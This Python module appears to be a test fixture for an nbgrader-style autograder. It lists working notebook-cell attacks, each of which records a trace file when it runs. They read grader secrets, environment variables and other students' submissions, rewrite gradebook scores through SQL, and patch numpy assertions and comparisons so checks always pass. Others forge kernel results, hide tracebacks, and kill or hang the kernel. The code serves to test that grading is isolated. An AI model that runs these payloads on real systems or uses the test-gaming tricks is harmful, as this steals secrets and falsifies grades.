"""What students put into notebooks to gain points, read what is not theirs, or harm others: code for a cell, by name.

The cells are written for whoever runs notebooks in `autograded/STUDENT/lesson1`, as nbgrader's own steps do. Each calls
`leave(what it got)` before it does harm, which writes a file: where one is found, code of a student was run. All of it
is ordinary Python, so that a test can run it and see that it does what it says.
"""

from __future__ import annotations

COURSE = "../../../.."  # from autograded/STUDENT/lesson1
GRADEBOOK = "../../../gradebook.db"


def _sql(statement: str) -> str:
    return f"""
import sqlite3
leave("reached the gradebook")
with sqlite3.connect({GRADEBOOK!r}) as book:
    book.execute({statement!r})
book.close()
"""


def _own(student: str) -> str:
    return f"notebook_id in (select n.id from submitted_notebook n join submitted_assignment s on s.id = n.assignment_id where s.student_id = '{student}')"


ATTACKS: dict[str, str] = {
    "reads-the-secret": f"leave(open('{COURSE}/.grader-secret').read())",
    "reads-the-sources": "leave(open('../../../source/lesson1/lesson1.ipynb').read())",
    "reads-the-gradebook": f"import sqlite3\nleave(sqlite3.connect('{GRADEBOOK}').execute('select * from student').fetchall())",
    "reads-the-store": f"import sqlite3\nleave(sqlite3.connect('{COURSE}/grades.db').execute('select * from sqlite_master').fetchall())",
    "reads-other-hand-ins": "import glob\nleave([open(path).read() for path in glob.glob('../../../submitted/*/lesson1/*.ipynb')])",
    "reads-the-environment": "import os\nleave(dict(os.environ))",
    "gives-itself-extra-credit": _sql(f"update grade set extra_credit = 10 where {_own('gives-itself-extra-credit')}"),
    "takes-anothers-points": _sql(f"update grade set manual_score = 0 where {_own('honest-right')}"),
    "edits-its-score-later": f"""
import subprocess, sys
leave("started a process")
later = "import sqlite3, time; time.sleep(1); b = sqlite3.connect({GRADEBOOK!r}); b.execute('update grade set auto_score = 10'); b.commit()"
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
""",
    "edits-the-settings": "leave('reached the settings')\nopen('../../../nbgrader_config.py', 'a').write('\\nraise SystemExit\\n')",
    "edits-the-course": f"leave('reached the course')\nopen('{COURSE}/course.yaml', 'a').write('\\n# edited\\n')",
    "patches-comparisons": """
import numpy
leave("patched")
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = numpy.array_equal = lambda *a, **k: True
numpy.shape = lambda *a: (1, 1)
""",
    "calls-the-reference": """
import sys
frame = sys._getframe()
while frame is not None:
    leave(sorted(frame.f_globals))
    frame = frame.f_back
""",
    "turns-later-cells-into-pass": """
from IPython.core.interactiveshell import InteractiveShell
leave("transformed")
InteractiveShell.instance().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    "prints-every-float-as-full-marks": """
from IPython.core.interactiveshell import InteractiveShell
leave("formatted")
InteractiveShell.instance().display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("100.0"))
""",
    "sends-a-forged-result": """
leave("sent")
from ipykernel.zmqshell import ZMQInteractiveShell
shell = ZMQInteractiveShell.instance()
content = {"data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result", content, parent=shell.parent_header)
""",
    "equals-everything": """
class Any:
    __eq__ = __array_ufunc__ = __array_function__ = lambda *a, **k: True
leave("defined")
value = output_size = output = Any()
""",
    "hides-tracebacks": """
from IPython.core.interactiveshell import InteractiveShell
leave("hidden")
shell = InteractiveShell.instance()
shell.showtraceback = lambda *a, **k: None
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    "ends-the-process": "import os\nleave('ended')\nos._exit(0)",
    "kills-the-kernel": "import os, signal\nleave('killed')\nos.kill(os.getpid(), signal.SIGKILL)",
    "loops": "leave('looped')\nwhile True: pass",
    "loops-and-ignores-interrupts": "import signal\nleave('looped')\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
}


def cell(name: str, traces: str) -> str:
    """The code of an attack, which leaves its traces in a folder."""
    leave = f"def leave(what):\n    with open('{traces}/{name}', 'a') as file:\n        file.write(str(what))\n"
    return f"{leave}\n{ATTACKS[name]}"
